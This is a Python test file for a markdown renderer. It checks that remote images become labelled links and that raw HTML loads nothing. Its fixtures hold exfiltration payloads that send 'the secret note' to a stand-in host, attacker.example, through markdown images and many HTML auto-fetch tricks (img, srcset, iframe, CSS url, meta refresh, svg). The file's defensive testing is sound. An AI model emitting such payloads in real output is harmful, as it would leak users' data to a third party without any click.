"""Nothing a note or an answer holds makes the browser fetch anything by itself: every
image form becomes a labelled link naming its host (rendered HTML), or a markdown link
(`without_images`, for text clients render themselves); raw HTML that would load
something stays escaped text."""

from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from grove.interfaces.rendering import render_markdown, without_images

REMOTE = "https://attacker.example/c?d=the+secret+note"

# (markdown, the label each of its remote images must show)
IMAGES = [
    (f"![x]({REMOTE})", ["Image: x — attacker.example"]),
    (f'![x]({REMOTE} "a title")', ["Image: x — attacker.example"]),
    (f"![x](<{REMOTE}>)", ["Image: x — attacker.example"]),
    (f"![full][r]\n\n[r]: {REMOTE}", ["Image: full — attacker.example"]),
    (f"![collapsed][]\n\n[collapsed]: {REMOTE}", ["Image: collapsed — attacker.example"]),
    (f"![shortcut]\n\n[shortcut]: <{REMOTE}> 'title'", ["Image: shortcut — attacker.example"]),
    (f"# Heading ![h]({REMOTE})", ["Image: h — attacker.example"]),
    (f"> quoted ![q]({REMOTE})", ["Image: q — attacker.example"]),
    (f"- item ![l]({REMOTE})\n  ![l2](https://second.example/x.png)",
     ["Image: l — attacker.example", "Image: l2 — second.example"]),
    (f"| a |\n|---|\n| ![t]({REMOTE}) |", ["Image: t — attacker.example"]),
    (f"**bold ![*styled* alt]({REMOTE})**", ["Image: styled alt — attacker.example"]),
    (f"![]({REMOTE})", ["Image — attacker.example"]),
    ("![who](https://trusted.example@attacker.example:8443/x.png)",
     ["Image: who — attacker.example:8443"]),
    ("![caps](HTTPS://ATTACKER.EXAMPLE/x.png)", ["Image: caps — attacker.example"]),
    (f"\\\\![after an escaped backslash]({REMOTE})",
     ["Image: after an escaped backslash — attacker.example"]),
]

# Forms that must come out with no request at all and no image link.
INERT = [
    f'<img src="{REMOTE}">',
    f'<img srcset="{REMOTE} 2x" src="x">',
    f'<picture><source srcset="{REMOTE}"></picture>',
    f'<video poster="{REMOTE}"></video><audio src="{REMOTE}"></audio>',
    f'<iframe src="{REMOTE}"></iframe>',
    f'<link rel="stylesheet" href="{REMOTE}"><link rel="prefetch" href="{REMOTE}">',
    f"<style>@import url({REMOTE}); body {{ background: url({REMOTE}) }}</style>",
    f'<div style="background-image: url({REMOTE})">x</div>',
    f'<svg><image href="{REMOTE}"/></svg>',
    f'<object data="{REMOTE}"></object><embed src="{REMOTE}">',
    f'<input type="image" src="{REMOTE}"><body background="{REMOTE}">',
    f'<meta http-equiv="refresh" content="0;url={REMOTE}"><base href="{REMOTE}">',
    "![data](data:image/png;base64,iVBORw0KGgo=) ![relative](/static/grove/icon.svg)",
    "![protocol relative](//attacker.example/p.png)",
    f"`![in code]({REMOTE})`\n\n```\n![in a fence]({REMOTE})\n```",
    f"https://attacker.example/bare.png and {REMOTE}",
]


class Fetches(HTMLParser):
    """What in parsed HTML could make a browser request something without a click:
    any attribute carrying an address other than a link's href, any element that
    loads, embeds or styles. Links (`a[href]`) are collected separately."""

    LOADING = {"img", "picture", "source", "video", "audio", "iframe", "frame", "link",
               "style", "svg", "image", "object", "embed", "meta", "base", "script",
               "input", "body", "track", "portal"}

    def __init__(self, html: str):
        super().__init__()
        self.found: list[str] = []
        self.links: list[tuple[str, str, str]] = []  # (href, rel, text)
        self._open: list[list[str]] | None = None
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        if tag in self.LOADING and not (tag == "input" and dict(attrs).get("type") ==
                                        "checkbox"):
            self.found.append(tag)
        for name, _ in attrs:
            if name in ("style", "srcset", "src", "poster", "background", "data",
                        "xlink:href", "action", "formaction", "ping"):
                self.found.append(f"{tag}[{name}]")
            if name == "href" and tag != "a":
                self.found.append(f"{tag}[href]")
        if tag == "a":
            found = dict(attrs)
            self._open = [found.get("href") or "", found.get("rel") or "", ""]

    def handle_data(self, data):
        if self._open is not None:
            self._open[2] += data

    def handle_endtag(self, tag):
        if tag == "a" and self._open is not None:
            self.links.append((self._open[0], self._open[1], self._open[2]))
            self._open = None


def images_in(markdown: str) -> int:
    """Images a CommonMark + GFM-tables renderer (any client's) would load."""
    tokens = MarkdownIt("commonmark").enable("table").parse(markdown)
    return sum(1 for t in tokens if t.type == "inline" for c in t.children or []
               if c.type == "image")


@pytest.mark.parametrize(("markdown", "labels"), IMAGES)
def test_every_image_form_renders_as_a_labelled_link_to_its_host(markdown, labels):
    assert images_in(markdown) == len(labels)  # the form really is an image
    page = Fetches(str(render_markdown(markdown)))
    assert page.found == []
    assert [text for _, _, text in page.links] == labels
    for href, rel, _ in page.links:
        assert href.lower().startswith("https://")
        assert rel == "noopener noreferrer nofollow"


@pytest.mark.parametrize("markdown", INERT)
def test_raw_html_and_other_forms_load_nothing(markdown):
    html = str(render_markdown(markdown))
    page = Fetches(html)
    assert page.found == [], html
    assert all(not text.startswith("Image") or "attacker" not in href
               for href, _, text in page.links)


@pytest.mark.parametrize(("markdown", "labels"), IMAGES)
def test_answer_markdown_keeps_the_links_and_loses_the_images(markdown, labels):
    text = without_images(markdown)
    assert images_in(text) == 0, text
    page = Fetches(str(render_markdown(text)))
    assert page.found == []
    assert [label for _, _, label in page.links] == labels  # the same labelled links


def test_answer_markdown_without_images_is_left_as_written():
    answer = ("Rebuilt on **Sundays** — see [the runbook](https://wiki.example/run).\n\n"
              "```rust\nlet v = vec![1, 2];\n```\n\n`![not an image](x)` stays code.")
    assert without_images(answer) == answer
    mixed = f"`![in code]({REMOTE})` then ![real]({REMOTE})"
    rewritten = without_images(mixed)
    assert images_in(rewritten) == 0
    assert rewritten.startswith(f"`![in code]({REMOTE})` then ")  # code untouched


def test_many_images_mixed_with_code_still_leave_none():
    """Past the rewrite budget every "![" is escaped: still no image, whatever the mix."""
    hostile = f"`![c]({REMOTE})` ![r]({REMOTE}) " * 60
    assert images_in(hostile) == 60
    assert images_in(without_images(hostile)) == 0
    nested = f"![![inner]({REMOTE})](https://outer.example/o.png) [![in a link]({REMOTE})](/x)"
    assert images_in(without_images(nested)) == 0
    assert Fetches(str(render_markdown(nested))).found == []
